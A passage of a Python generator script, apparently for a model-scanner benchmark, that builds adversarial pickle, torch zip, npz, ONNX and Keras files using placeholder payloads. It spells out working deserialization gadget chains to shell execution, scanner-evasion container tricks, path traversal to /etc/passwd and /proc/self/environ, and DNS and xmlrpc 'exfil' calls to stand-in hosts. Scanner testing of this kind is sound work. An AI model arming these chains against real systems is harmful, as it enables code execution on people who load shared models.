#!/usr/bin/env python3
"""Writes bench/scan/blind5/adversarial/: bypass classes the READMEs of blind/ .. blind4/ do not list.

Stdlib only, opcode by opcode / byte by byte, deterministic (byte-identical on re-run).
NEVER load these files. Payloads are harmless: `echo mlsec-blind5`, /tmp/mlsec_blind5*,
http://127.0.0.1:9/ (discard port), the .invalid TLD for DNS.
"""
import io
import json
import os
import pickletools
import struct
import sys
import tarfile
import zipfile
import zlib

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import blindgen  # noqa: E402  (bench/scan/blindgen.py: the shared byte writers)
from blindgen import varint  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "adversarial")
CMD = "echo mlsec-blind5"
TMP = "/tmp/mlsec_blind5"
URL = "http://127.0.0.1:9/"
CODE = "__import__('os').system('echo mlsec-blind5')"
ROWS = []


# ---------------------------------------------------------------- pickle assembler
u = blindgen.binunicode
by = blindgen.binbytes
i = blindgen.binint
N, TRUE, FALSE = blindgen.NONE, blindgen.TRUE, blindgen.FALSE
g = blindgen.text_global  # text GLOBAL
sg = blindgen.stack_global  # STACK_GLOBAL (BINUNICODE strings)
t = blindgen.mark_tuple
lst = blindgen.mark_list
dct = blindgen.mark_dict
call = blindgen.call


def build(obj, state):
    return obj + state + b"b"


def getattr_(obj, name, glob=g):
    return call(glob("builtins", "getattr"), obj, u(name))


def P(body, proto=2):
    return blindgen.protocol(body, proto)


def P4(body):
    # protocol 4 with one FRAME around the body
    inner = body + b"."
    return b"\x80\x04\x95" + struct.pack("<Q", len(inner)) + inner


def check(data):
    pickletools.dis(data, out=io.StringIO())  # parses, never executes
    return data


def put(name, data, cls, what, expect="flagged"):
    blindgen.write_file(OUT, name, data)
    ROWS.append((name, cls, what, expect))


def pk(name, body, cls, what, proto=4):
    data = P4(body) if proto == 4 else P(body, proto)
    put(name, check(data), cls, what)


SYS = call(g("posix", "system"), u(CMD))  # an obvious payload for container tests
SYS_PICKLE = check(P(SYS))


# ---------------------------------------------------------------- zip helpers
def zinfo(name):
    zi = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
    zi.compress_type = zipfile.ZIP_STORED
    zi.external_attr = 0o644 << 16
    return zi


def zbytes(members, compress=zipfile.ZIP_STORED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for n, d in members:
            zi = zinfo(n)
            zi.compress_type = compress
            z.writestr(zi, d)
    return buf.getvalue()


def torch_zip(pkl, extra=()):
    return zbytes([("archive/data.pkl", pkl), ("archive/version", b"3\n")] + list(extra))


def raw_zip(members):
    """members: list of dict(name, data, flag, lmethod, cmethod); stored data, hand-built headers."""
    out = b""
    cd = b""
    for m in members:
        name = m["name"].encode()
        data = m["data"]
        crc = zlib.crc32(data)
        flag = m.get("flag", 0)
        lm, cm = m.get("lmethod", 0), m.get("cmethod", 0)
        off = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flag, lm, 0, 0x5C21, crc, len(data),
                           len(data), len(name), 0) + name + data
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flag, cm, 0, 0x5C21, crc,
                          len(data), len(data), len(name), 0, 0, 0, 0, 0o644 << 16, off) + name
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(cd),
                       len(out), 0)
    return out + cd + eocd


def tgz(members):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for n, d in members:
            ti = tarfile.TarInfo(n)
            ti.size = len(d)
            ti.mtime = 1767225600
            ti.mode = 0o644
            tf.addfile(ti, io.BytesIO(d))
    return buf.getvalue()


# ---------------------------------------------------------------- protobuf (ONNX) helpers
def fv(field, n):
    return varint(field << 3) + varint(n)


def fb(field, b):
    if isinstance(b, str):
        b = b.encode()
    return varint((field << 3) | 2) + varint(len(b)) + b


def ext_tensor(name, location, dims=(4,)):
    # TensorProto: dims=1, data_type=2 (FLOAT=1), name=8, external_data=13, data_location=14
    t_ = b"".join(fv(1, d) for d in dims) + fv(2, 1) + fb(8, name)
    t_ += fb(13, fb(1, "location") + fb(2, location))
    t_ += fb(13, fb(1, "offset") + fb(2, "0")) + fb(13, fb(1, "length") + fb(2, "16"))
    return t_ + fv(14, 1)


def value_info(name, dims=(4,)):
    shape = b"".join(fb(1, fv(1, d)) for d in dims)
    return fb(1, name) + fb(2, fb(1, fv(1, 1) + fb(2, shape)))


def node(op, ins, outs, attrs=b"", domain=None, name=None):
    n = b"".join(fb(1, x) for x in ins) + b"".join(fb(2, x) for x in outs)
    if name:
        n += fb(3, name)
    n += fb(4, op) + attrs
    if domain:
        n += fb(7, domain)
    return n


def attr_graph(name, graph):
    return fb(5, fb(1, name) + fb(6, graph) + fv(20, 5))


def attr_tensor(name, tensor):
    return fb(5, fb(1, name) + fb(5, tensor) + fv(20, 4))


def graph(nodes, name, inputs=(), outputs=(), inits=(), sparse=()):
    gr = b"".join(fb(1, n) for n in nodes) + fb(2, name)
    gr += b"".join(fb(5, x) for x in inits)
    gr += b"".join(fb(11, value_info(x)) for x in inputs)
    gr += b"".join(fb(12, value_info(x)) for x in outputs)
    gr += b"".join(fb(15, x) for x in sparse)
    return gr


def model(gr, opset=17, functions=(), training=b"", domains=()):
    m = fv(1, 8) + fb(2, "mlsec-blind5") + fb(7, gr) + fb(8, fb(1, "") + fv(2, opset))
    for d, v in domains:
        m += fb(8, fb(1, d) + fv(2, v))
    if training:
        m += fb(20, training)
    m += b"".join(fb(25, f) for f in functions)
    return m


def write_all():
    # ============================================================ A. stdlib callables
    A = "A stdlib"
    pk("a_posix_spawnp.pkl", call(g("posix", "posix_spawnp"), u("sh"), lst(u("sh"), u("-c"), u(CMD)), dct()),
       A, "posix.posix_spawnp('sh', argv, {}) starts a shell")
    pk("a_posix_spawn.pkl", call(g("posix", "posix_spawn"), u("/bin/sh"), lst(u("/bin/sh"), u("-c"), u(CMD)), dct()),
       A, "posix.posix_spawn('/bin/sh', argv, {})")
    pk("a_winapi_createprocess.pkl",
       call(g("_winapi", "CreateProcess"), N, u("cmd.exe /c " + CMD), N, N, i(0), i(0), N, N, N),
       A, "_winapi.CreateProcess (Windows process creation, private module)")
    pk("a_operator_call.pkl", call(g("_operator", "call"), g("posix", "system"), u(CMD)),
       A, "operator.call (3.11) as invoker of posix.system")
    pk("a_thread_start_new_thread.pkl",
       call(g("_thread", "start_new_thread"), g("posix", "system"), t(u(CMD))),
       A, "_thread.start_new_thread as invoker (callable only as an argument)")
    pk("a_tarfile_open_w.pkl", call(g("tarfile", "open"), u(TMP + ".tar"), u("w")),
       A, "tarfile.open(path,'w') creates/truncates a file")
    pk("a_gzip_open_wb.pkl", call(g("gzip", "open"), u(TMP + ".gz"), u("wb")),
       A, "gzip.open(path,'wb') creates/truncates a file")
    pk("a_bz2file_w.pkl", call(g("bz2", "BZ2File"), u(TMP + ".bz2"), u("w")),
       A, "bz2.BZ2File(path,'w') creates/truncates a file")
    pk("a_lzmafile_w.pkl", call(g("lzma", "LZMAFile"), u(TMP + ".xz"), u("w")),
       A, "lzma.LZMAFile(path,'w') creates/truncates a file")
    pk("a_codecs_open_w.pkl", call(g("codecs", "open"), u(TMP + ".txt"), u("w")),
       A, "codecs.open(path,'w') creates/truncates a file")
    pk("a_wave_open_wb.pkl", call(g("wave", "open"), u(TMP + ".wav"), u("wb")),
       A, "wave.open(path,'wb') creates/truncates a file")
    pk("a_pyio_open_w.pkl", call(g("_pyio", "open"), u(TMP + "_pyio.txt"), u("w")),
       A, "_pyio.open (pure-Python io) with mode 'w'")
    pk("a_pyio_fileio_w.pkl", call(g("_pyio", "FileIO"), u(TMP + "_fileio.txt"), u("w")),
       A, "_pyio.FileIO(path,'w') (the _io.FileIO twin)")
    pp = lambda p: call(g("pathlib", "PosixPath"), u(p))  # noqa: E731
    pk("a_path_symlink_to.pkl", call(g("pathlib", "Path.symlink_to"), pp(TMP + "_link"), u("/etc/passwd")),
       A, "unbound pathlib.Path.symlink_to plants a symlink")
    pk("a_path_rename.pkl", call(sg("pathlib", "Path.rename"), pp(TMP + "_a"), u(TMP + "_b")),
       A, "unbound pathlib.Path.rename (dotted STACK_GLOBAL)", proto=4)
    pk("a_path_chmod.pkl", call(sg("pathlib", "Path.chmod"), pp(TMP + "_a"), i(0o777)),
       A, "unbound pathlib.Path.chmod 0o777", proto=4)
    pk("a_zipfile_extractall.pkl",
       call(sg("zipfile", "ZipFile.extractall"), call(sg("zipfile", "ZipFile"), u(TMP + ".zip")), u(TMP + "_dir")),
       A, "unbound ZipFile.extractall (TarFile's twin)", proto=4)
    pk("a_socketserver_tcpserver.pkl",
       call(g("socketserver", "TCPServer"), t(u("0.0.0.0"), i(8765)), g("socketserver", "BaseRequestHandler")),
       A, "socketserver.TCPServer binds a listening port")
    pk("a_mp_connection_listener.pkl",
       call(g("multiprocessing.connection", "Listener"), t(u("0.0.0.0"), i(8766))),
       A, "multiprocessing.connection.Listener binds a port (then unpickles what it receives)")
    pk("a_mp_connection_client.pkl",
       call(g("multiprocessing.connection", "Client"), t(u("127.0.0.1"), i(9))),
       A, "multiprocessing.connection.Client connects out")
    pk("a_imaplib_imap4.pkl", call(g("imaplib", "IMAP4"), u("127.0.0.1"), i(9)),
       A, "imaplib.IMAP4 connects out")
    pk("a_ssl_get_server_certificate.pkl", call(g("ssl", "get_server_certificate"), t(u("127.0.0.1"), i(9))),
       A, "ssl.get_server_certificate connects out")
    pk("a_socket_getaddrinfo_dns.pkl",
       call(g("socket", "getaddrinfo"), u("exfil.mlsec-blind5.invalid"), i(80)),
       A, "socket.getaddrinfo: DNS lookup as exfiltration channel")
    pk("a_socket_gethostbyname_dns.pkl",
       call(g("_socket", "gethostbyname"), u("exfil2.mlsec-blind5.invalid")),
       A, "_socket.gethostbyname: DNS exfiltration through the C module")
    pk("a_xmlrpc_proxy_method.pkl",
       call(getattr_(call(g("xmlrpc.client", "ServerProxy"), u(URL)), "exfil"), u("secret")),
       A, "xmlrpc ServerProxy: getattr returns a remote method, calling it sends HTTP")
    pk("a_robotparser_read.pkl",
       call(g("urllib.robotparser", "RobotFileParser.read"), call(g("urllib.robotparser", "RobotFileParser"), u(URL))),
       A, "unbound RobotFileParser.read fetches a URL")
    pk("a_opener_open.pkl",
       call(sg("urllib.request", "OpenerDirector.open"), call(sg("urllib.request", "build_opener")), u(URL)),
       A, "unbound OpenerDirector.open(build_opener(), URL)", proto=4)
    pk("a_tkinter_tcl_eval.pkl",
       call(getattr_(call(g("tkinter", "Tcl")), "eval"), u("exec sh -c {" + CMD + "}")),
       A, "getattr(tkinter.Tcl(), 'eval'): Tcl `exec` runs a shell (bound method that really does harm)")
    pk("a_tkinter_tcl_call.pkl",
       call(getattr_(call(g("tkinter", "Tcl")), "call"), u("exec"), u("sh"), u("-c"), u(CMD)),
       A, "getattr(tkinter.Tcl(), 'call')('exec', ...)")
    pk("a_ctypes_pythonapi_pyrun.pkl",
       call(getattr_(g("ctypes", "pythonapi"), "PyRun_SimpleString"), by(CODE.encode())),
       A, "ctypes.pythonapi.PyRun_SimpleString runs Python source")
    pk("a_sqlite_execute_attach.pkl",
       call(getattr_(call(g("sqlite3", "connect"), u(":memory:")), "execute"),
            u("ATTACH DATABASE '" + TMP + ".db' AS x")),
       A, "getattr(sqlite3 connection,'execute') ATTACH creates a file")
    pk("a_socket_connect_bound.pkl",
       call(getattr_(call(g("socket", "socket")), "connect"), t(u("127.0.0.1"), i(9))),
       A, "getattr(socket.socket(), 'connect')")
    pk("a_unittest_loadtestsfromname.pkl",
       call(g("unittest.loader", "TestLoader.loadTestsFromName"), call(g("unittest.loader", "TestLoader")),
            u("os.abort")),
       A, "TestLoader.loadTestsFromName imports any dotted name and calls it with no args")
    pk("a_logging_baseconfigurator_resolve.pkl",
       call(call(g("logging.config", "BaseConfigurator.resolve"),
                 call(g("logging.config", "BaseConfigurator"), dct()), u("os.system")), u(CMD)),
       A, "unbound logging.config.BaseConfigurator.resolve as universal importer")
    ns = build(call(g("types", "SimpleNamespace")), dct((u("__annotations__"), dct((u("x"), u(CODE))))))
    pk("a_typing_get_type_hints.pkl", call(g("typing", "get_type_hints"), ns),
       A, "typing.get_type_hints evals string annotations of a SimpleNamespace")
    fr = call(g("typing", "ForwardRef"), u(CODE))
    pk("a_typing_forwardref_evaluate.pkl",
       call(g("typing", "ForwardRef._evaluate"), fr, dct(), dct(), call(g("builtins", "frozenset"))),
       A, "unbound typing.ForwardRef._evaluate evals its string")
    pk("a_typing_eval_type.pkl", call(g("typing", "_eval_type"), fr, dct(), dct()),
       A, "typing._eval_type(ForwardRef(code), {}, {})")
    part = build(call(g("functools", "partial"), g("inspect", "get_annotations")),
                 t(g("inspect", "get_annotations"), t(), dct((u("eval_str"), TRUE)), N))
    pk("a_inspect_get_annotations_eval_str.pkl", call(part, ns),
       A, "inspect.get_annotations(eval_str=True) through a partial's state")
    pk("a_runpy_run_module.pkl", call(g("runpy", "run_module"), u("antigravity")),
       A, "runpy.run_module runs a module by name (antigravity opens a browser)")
    spec = build(call(g("importlib.machinery", "ModuleSpec"), u("mlsec_blind5"), N),
                 dct((u("origin"), u(TMP + ".so"))))
    pk("a_imp_create_dynamic.pkl", call(g("_imp", "create_dynamic"), spec),
       A, "_imp.create_dynamic dlopens spec.origin")
    pk("a_extensionfileloader_load_module.pkl",
       call(g("importlib.machinery", "ExtensionFileLoader.load_module"),
            call(g("importlib.machinery", "ExtensionFileLoader"), u("mlsec_blind5"), u(TMP + ".so")), u("mlsec_blind5")),
       A, "unbound ExtensionFileLoader.load_module loads a shared library")
    pk("a_marshal_functiontype.pkl",
       call(call(g("types", "FunctionType"), call(g("marshal", "loads"), by(b"\xe3fake-code-object")), dct())),
       A, "marshal.loads + FunctionType (picklescan PR #74), fake code bytes")
    bio = call(g("_io", "BytesIO"))
    closer_state = dct((u("file"), bio), (u("name"), u(TMP + "_victim")), (u("delete"), TRUE),
                       (u("close_called"), FALSE))
    pk("a_tempfile_closer_del_reconstructor.pkl",
       build(call(g("copyreg", "_reconstructor"), g("tempfile", "_TemporaryFileCloser"), g("builtins", "object"), N),
             closer_state),
       A, "no call at all: tempfile._TemporaryFileCloser state; its __del__ unlinks `name` when collected")
    pk("a_tempfile_closer_del_newobj.pkl",
       build(sg("tempfile", "_TemporaryFileCloser") + t() + b"\x81", closer_state),
       A, "the same __del__ gadget through NEWOBJ (protocol 4)", proto=4)
    wrapper = build(call(g("copyreg", "_reconstructor"), g("tempfile", "_TemporaryFileWrapper"), g("builtins", "object"), N),
                    dct((u("file"), bio), (u("name"), u(TMP + "_victim2")), (u("delete"), TRUE),
                        (u("_closer"), build(call(g("copyreg", "_reconstructor"), g("tempfile", "_TemporaryFileCloser"),
                                                  g("builtins", "object"), N), closer_state))))
    pk("a_tempfile_wrapper_del.pkl", dct((u("model"), wrapper), (u("epoch"), i(3))),
       A, "_TemporaryFileWrapper holding the closer, nested in an ordinary checkpoint dict")

    # ============================================================ B. library helpers
    B = "B library helper"
    pk("b_numpy_cpuinfo_getoutput.pkl", call(g("numpy.distutils.cpuinfo", "getoutput"), u(CMD)),
       B, "numpy.distutils.cpuinfo.getoutput runs a shell command")
    pk("b_numpy_npy_load_module.pkl",
       call(g("numpy.compat.py3k", "npy_load_module"), u("mlsec_blind5"), u(TMP + ".py")),
       B, "numpy.compat.py3k.npy_load_module executes a .py file")
    pk("b_numpy_f2cmap_eval.pkl", call(g("numpy.f2py.capi_maps", "load_f2cmap_file"), u(TMP + ".f2cmap")),
       B, "numpy.f2py.capi_maps.load_f2cmap_file evals a file's text")
    pk("b_numpy_f2py_run_main.pkl",
       call(g("numpy.f2py.f2py2e", "run_main"), lst(u("-c"), u(TMP + ".f"), u("-m"), u("mlsec_blind5"))),
       B, "numpy.f2py.f2py2e.run_main(['-c', ...]) runs a compiler")
    pk("b_numpy_open_memmap_w.pkl",
       call(g("numpy.lib.format", "open_memmap"), u(TMP + ".npy"), u("w+"), N, t(i(1 << 20))),
       B, "numpy.lib.format.open_memmap(path,'w+') creates a file")
    pk("b_scipy_functionmaker_create.pkl",
       call(call(g("scipy._lib.decorator", "FunctionMaker.create"), u("f()"), u(CODE), dct())),
       B, "scipy._lib.decorator.FunctionMaker.create execs a function body, then it is called")
    pk("b_scipy_netcdf_w.pkl", call(g("scipy.io", "netcdf_file"), u(TMP + ".nc"), u("w")),
       B, "scipy.io.netcdf_file(path,'w') creates a file")
    pk("b_scipy_datasets_ascent.pkl", call(g("scipy.datasets", "ascent")),
       B, "scipy.datasets.ascent downloads (pooch)")
    pk("b_patsy_dmatrix.pkl", call(g("patsy.highlevel", "dmatrix"), u("I(" + CODE + ")"), dct()),
       B, "patsy.dmatrix evaluates Python inside a formula")
    pk("b_patsy_evalenv_eval.pkl",
       call(g("patsy.eval", "EvalEnvironment.eval"), call(g("patsy.eval", "EvalEnvironment"), lst(dct())), u(CODE)),
       B, "unbound patsy EvalEnvironment.eval of a string")
    pk("b_statsmodels_ols_formula.pkl",
       call(g("statsmodels.formula.api", "ols"), u("y ~ I(" + CODE + ")"), dct((u("y"), lst(i(1), i(2))))),
       B, "statsmodels.formula.api.ols: the formula is evaluated by patsy")
    pk("b_pandas_pickle_compat_loads.pkl", call(g("pandas.compat.pickle_compat", "loads"), by(SYS_PICKLE)),
       B, "pandas.compat.pickle_compat.loads: nested pickle through pandas' own loader")
    pk("b_pandas_read_json_url.pkl", call(g("pandas.io.json._json", "read_json"), u(URL + "x.json")),
       B, "pandas read_json(URL) fetches")
    pk("b_pandas_read_csv_url.pkl", call(g("pandas.io.parsers.readers", "read_csv"), u(URL + "x.csv")),
       B, "pandas read_csv(URL) fetches")
    pk("b_pandas_common_urlopen.pkl", call(g("pandas.io.common", "urlopen"), u(URL)),
       B, "pandas.io.common.urlopen")
    pk("b_pandas_read_sql_attach.pkl",
       call(g("pandas.io.sql", "read_sql"), u("ATTACH DATABASE '" + TMP + ".db' AS x"),
            call(g("sqlite3", "connect"), u(":memory:"))),
       B, "pandas.read_sql runs SQL given in the pickle (ATTACH creates a file)")
    pk("b_sklearn_fetch_kddcup99.pkl", call(g("sklearn.datasets", "fetch_kddcup99"), u(TMP + "_data")),
       B, "sklearn fetch_kddcup99 downloads then joblib-loads its cache")
    pk("b_sklearn_dump_svmlight.pkl",
       call(g("sklearn.datasets", "dump_svmlight_file"), lst(lst(b"G?\xf0\x00\x00\x00\x00\x00\x00")), lst(i(0)),
            u(TMP + ".svm")),
       B, "sklearn dump_svmlight_file writes a path")
    pk("b_xgboost_rabittracker.pkl", call(g("xgboost.tracker", "RabitTracker"), u("0.0.0.0"), i(2)),
       B, "xgboost RabitTracker binds a port")
    pk("b_torch_hub_import_module.pkl", call(g("torch.hub", "_import_module"), u("m"), u(TMP + "/hubconf.py")),
       B, "torch.hub._import_module executes a .py file")
    pk("b_torch_cpp_import_from_library.pkl",
       call(g("torch.utils.cpp_extension", "_import_module_from_library"), u("mlsec_blind5"), u("/tmp"), TRUE),
       B, "torch cpp_extension._import_module_from_library loads /tmp/mlsec_blind5.so")
    pk("b_torch_check_compiler_abi.pkl",
       call(g("torch.utils.cpp_extension", "check_compiler_abi_compatibility"), u(TMP + ".sh")),
       B, "check_compiler_abi_compatibility runs the named 'compiler' with -v")
    pk("b_torch_classes_load_library.pkl",
       call(g("torch._classes", "_Classes.load_library"), g("torch._classes", "classes"), u(TMP + ".so")),
       B, "unbound torch._classes._Classes.load_library (CDLL)")
    pk("b_torch_elastic_subprocesshandler.pkl",
       call(g("torch.distributed.elastic.multiprocessing.api", "SubprocessHandler"), u("/bin/sh"),
            t(u("-c"), u(CMD)), dct(), u(""), u("")),
       B, "torch elastic SubprocessHandler starts a process in __init__")
    timer = call(g("torch.utils.benchmark.utils.timer", "Timer"), u(CODE))
    pk("b_torch_benchmark_timer_timeit.pkl",
       call(g("torch.utils.benchmark.utils.timer", "Timer.timeit"), timer, i(1)),
       B, "unbound torch benchmark Timer.timeit runs its stmt")
    pk("b_torch_benchmark_timer_getattr.pkl", call(getattr_(timer, "timeit"), i(1)),
       B, "getattr(Timer(stmt), 'timeit')(1): bound method that really runs code")
    pk("b_torch_fx_forward_from_src.pkl",
       call(g("torch.fx.graph_module", "_forward_from_src"), u("import os\nos.system('" + CMD + "')\ndef forward(self): pass\n"),
            dct()),
       B, "torch.fx.graph_module._forward_from_src execs source")
    pk("b_torch_datapipes_basichandlers.pkl",
       call(g("torch.utils.data.datapipes.utils.decoder", "basichandlers"), u("pickle"), by(SYS_PICKLE)),
       B, "torch datapipes decoder basichandlers('pickle', bytes): nested pickle")
    pk("b_sympy_import_module.pkl",
       call(getattr_(call(g("sympy.external.importtools", "import_module"), u("os")), "system"), u(CMD)),
       B, "sympy.external.import_module as universal importer")
    tpl = call(g("jinja2.environment", "Template"), u("{{ cycler.__init__.__globals__.os.system('" + CMD + "') }}"))
    pk("b_jinja2_template_render.pkl", call(g("jinja2.environment", "Template.render"), tpl),
       B, "unsandboxed jinja2 Template(...).render() (template engine as evaluator)")
    pk("b_mp_forkingpickler_loads.pkl", call(sg("multiprocessing.reduction", "ForkingPickler.loads"), by(SYS_PICKLE)),
       B, "multiprocessing ForkingPickler.loads (= pickle.loads under an innocent dotted name)", proto=4)

    # ============================================================ C. opcode shapes
    C = "C opcode shape"
    pk("c_py2_urllib_urlretrieve.pkl", call(g("urllib", "urlretrieve"), u(URL), u(TMP + "_dl")),
       C, "protocol 2 `urllib urlretrieve` remapped by fix_imports to urllib.request", proto=2)
    pk("c_py2_urllib_urlopen.pkl", call(g("urllib", "urlopen"), u(URL)),
       C, "protocol 2 `urllib urlopen` (NAME_MAPPING)", proto=2)
    pk("c_py2_socketserver.pkl",
       call(g("SocketServer", "TCPServer"), t(u("0.0.0.0"), i(8767)), g("SocketServer", "BaseRequestHandler")),
       C, "protocol 2 `SocketServer` -> socketserver (IMPORT_MAPPING)", proto=2)
    pk("c_py2_httplib_connect.pkl",
       call(getattr_(call(g("httplib", "HTTPConnection"), u("127.0.0.1"), i(9)), "connect")),
       C, "protocol 2 `httplib` -> http.client, getattr connect", proto=2)
    pk("c_call_in_frozenset.pkl", b"(" + SYS + b"\x91", C, "the call inside FROZENSET (protocol 4)", proto=4)
    pk("c_call_in_set_additems.pkl", dct((u("labels"), b"\x8f(" + SYS + b"\x90")),
       C, "the call inside EMPTY_SET + ADDITEMS", proto=4)
    pk("c_call_as_dict_key.pkl", dct((SYS, u("v"))), C, "the call as a dict key")
    pk("c_call_in_newobj_ex_kwargs.pkl",
       sg("collections", "OrderedDict") + t() + dct((u("w"), SYS)) + b"\x92",
       C, "the call inside NEWOBJ_EX kwargs of an OrderedDict", proto=4)
    # STACK_GLOBAL whose strings are built by str.join at load time
    join = lambda parts: call(sg("builtins", "str.join"), u(""), lst(*[u(p) for p in parts]))  # noqa: E731
    pk("c_stack_global_from_join.pkl",
       join(["po", "six"]) + join(["sys", "tem"]) + b"\x93" + t(u(CMD)) + b"R",
       C, "STACK_GLOBAL operands computed by str.join at load time", proto=4)

    # ============================================================ D. nested pickles / npy / npz
    D = "D nested"
    obj_arr = (g("numpy.core.multiarray", "_reconstruct") + t(g("numpy", "ndarray"), t(i(0)), by(b"b")) + b"R"
               + t(i(1), t(i(1)), call(g("numpy", "dtype"), u("O8"), FALSE, TRUE), FALSE, lst(SYS)) + b"b")
    obj_pickle = check(P(obj_arr))

    def npy(descr_body):
        hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
        hdr = hdr + " " * (63 - (10 + len(hdr)) % 64) + "\n"
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode() + descr_body

    put("d_npz_object_member.npz", zbytes([("arr_0.npy", npy(SYS_PICKLE)), ("arr_1.npy", npy(obj_pickle))]),
        D, "npz whose members are object-dtype .npy (np.load(allow_pickle=True) unpickles them)")
    put("d_npz_deflated_object.npz",
        zbytes([("weights.npy", npy(SYS_PICKLE))], compress=zipfile.ZIP_DEFLATED),
        D, "deflated npz member with an object .npy")

    # ============================================================ E. containers
    E = "E container"
    put("e_torch_zip_encrypted_flag.pt",
        raw_zip([dict(name="archive/data.pkl", data=SYS_PICKLE, flag=1), dict(name="archive/version", data=b"3\n", flag=1)]),
        E, "torch zip with general-purpose bit 0 (encrypted) set but stored plain (GHSA-w8jq-xcqf-f792 class)")
    put("e_torch_zip_method_mismatch.pt",
        raw_zip([dict(name="archive/data.pkl", data=SYS_PICKLE, lmethod=8, cmethod=0),
                 dict(name="archive/version", data=b"3\n")]),
        E, "local header says deflate, central says stored (readers use the central record)")
    put("e_torch_zip_strong_enc_flag.pt",
        raw_zip([dict(name="archive/data.pkl", data=SYS_PICKLE, flag=0x41), dict(name="archive/version", data=b"3\n")]),
        E, "flag bits 0 and 6 (strong encryption) set, data stored plain")
    put("e_finalized_model.sav", SYS_PICKLE, E, "raw pickle named .sav (the name sklearn tutorials use)")
    put("e_model.p", SYS_PICKLE, E, "raw pickle named .p")
    put("e_checkpoint.pth.tar", torch_zip(SYS_PICKLE), E, "torch zip named .pth.tar (common checkpoint name)")
    put("e_model.pdparams", SYS_PICKLE, E, "raw pickle named .pdparams (PaddlePaddle weights are pickles)")
    put("e_model.dill", SYS_PICKLE, E, "raw pickle named .dill")
    put("e_model.joblib.tar", tgz([("model.joblib", SYS_PICKLE)]), E, "plain (uncompressed) tar holding a joblib pickle")
    put("e_torch_zip_dot_segment.pt",
        zbytes([("archive/./data.pkl", SYS_PICKLE), ("archive/version", b"3\n")]),
        E, "torch zip whose pickle is `archive/./data.pkl`")
    put("e_jit_code_os.pt",
        zbytes([("m/data.pkl", check(P(build(g("__torch__", "M") + t() + b"\x81", dct()), 2))),
                ("m/code/__torch__.py", b"import os\nclass M(Module):\n  def forward(self):\n    os.system('" + CMD.encode() + b"')\n"),
                ("m/constants.pkl", check(P(t()))), ("m/version", b"3\n")]),
        E, "TorchScript-shaped zip whose code/ source calls os.system (torch would refuse to compile it; intent)")

    # ============================================================ F. ONNX nested external data
    F = "F onnx"
    trav = "../../../../etc/passwd"
    then_g = graph([node("Identity", ["w"], ["o"])], "then", outputs=["o"], inits=[ext_tensor("w", trav)])
    else_g = graph([node("Identity", ["x"], ["o2"])], "else", outputs=["o2"])
    main = graph([node("If", ["c"], ["y"], attr_graph("then_branch", then_g) + attr_graph("else_branch", else_g))],
                 "main", inputs=["c", "x"], outputs=["y"])
    put("f_if_subgraph_external.onnx", model(main), F, "external data `../` inside an If then_branch initializer")
    body = graph([node("Constant", [], ["k"], attr_tensor("value", ext_tensor("k", trav)))], "body",
                 inputs=["i", "cond"], outputs=["cond", "k"])
    main = graph([node("Loop", ["m", "cond"], ["y"], attr_graph("body", body))], "main", inputs=["m", "cond"],
                 outputs=["y"])
    put("f_loop_constant_external.onnx", model(main), F, "external data `../` in a Constant node attribute inside a Loop body")
    sp = fb(1, ext_tensor("sv", trav, dims=(2,))) + fb(2, b"".join(fv(1, d) for d in (2,)) + fv(2, 7) + fb(8, "si")
                                                      + fv(7, 0) + fv(7, 1)) + fv(3, 4)
    main = graph([node("Identity", ["sv"], ["y"])], "main", outputs=["y"], sparse=[sp])
    put("f_sparse_initializer_external.onnx", model(main), F, "external data `../` in a sparse_initializer's values")
    init_g = graph([node("Identity", ["w"], ["o"])], "init", outputs=["o"], inits=[ext_tensor("w", trav)])
    main = graph([node("Identity", ["x"], ["y"])], "main", inputs=["x"], outputs=["y"])
    put("f_training_info_external.onnx", model(main, training=fb(1, init_g) + fb(2, init_g)),
        F, "external data `../` in training_info initialization/algorithm graphs")
    fn = (fb(1, "mlsec_fn") + fb(4, "x") + fb(5, "y")
          + fb(7, node("Constant", [], ["y"], attr_tensor("value", ext_tensor("c", trav))))
          + fb(9, fb(1, "") + fv(2, 17)) + fb(10, "mlsec.local"))
    main = graph([node("mlsec_fn", ["x"], ["y"], domain="mlsec.local")], "main", inputs=["x"], outputs=["y"])
    put("f_function_constant_external.onnx", model(main, functions=[fn], domains=[("mlsec.local", 1)]),
        F, "external data `../` in a Constant inside a model-local FunctionProto")
    main = graph([node("Identity", ["w"], ["y"])], "main", outputs=["y"],
                 inits=[ext_tensor("w", "weights/../../../../../proc/self/environ")])
    put("f_normalised_traversal.onnx", model(main), F, "location `weights/../../..` (climbs out only after normalising)")
    main = graph([node("Scan", ["x"], ["y"], attr_graph("body", then_g) + fb(5, fb(1, "num_scan_inputs") + fv(3, 1) + fv(20, 2)))],
                 "main", inputs=["x"], outputs=["y"])
    put("f_scan_body_external.onnx", model(main), F, "external data `../` inside a Scan body")

    # ============================================================ G. Keras
    G = "G keras"
    lam = {"class_name": "__lambda__", "config": {"value": ["ZmFrZS1tYXJzaGFs", None, None]}}
    cfg = {"module": "keras", "class_name": "Functional", "registered_name": "Functional",
           "config": {"name": "f", "trainable": True,
                      "layers": [{"module": "keras.layers", "class_name": "InputLayer", "name": "in",
                                  "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "in"}, "inbound_nodes": []},
                                 {"module": "keras.layers", "class_name": "Dense", "name": "d",
                                  "config": {"name": "d", "units": 2, "activation": "linear"},
                                  "inbound_nodes": [{"args": [{"class_name": "__keras_tensor__",
                                                               "config": {"keras_history": ["in", 0, 0]}}],
                                                     "kwargs": {"training": lam}}]}],
                      "input_layers": [["in", 0, 0]], "output_layers": [["d", 0, 0]]}}
    meta = {"keras_version": "3.8.0", "date_saved": "2026-01-01@00:00:00"}
    put("g_lambda_in_inbound_kwargs.keras",
        zbytes([("metadata.json", json.dumps(meta).encode()), ("config.json", json.dumps(cfg).encode())]),
